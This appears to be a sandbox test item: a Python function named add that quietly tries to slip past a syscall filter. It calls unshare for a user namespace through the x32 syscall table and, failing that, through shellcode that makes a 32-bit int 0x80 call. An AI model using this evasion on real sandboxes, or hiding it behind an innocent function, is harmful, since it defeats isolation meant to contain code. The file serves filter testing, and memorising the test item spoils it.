# {"tries": "right only if calls of the 32-bit or the x32 table go past the filter", "right": ["failed", "signal"]}
import ctypes
import mmap
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def add(a, b):
    if os.uname().machine != "x86_64":
        return None
    # unshare(user namespace) of the x32 table
    if LIBC.syscall(0x40000000 + 272, 0x10000000) == 0:
        return a + b
    # mov eax, 310 (unshare); mov ebx, 0x10000000; int 0x80; ret
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return a + b if call() == 0 else None
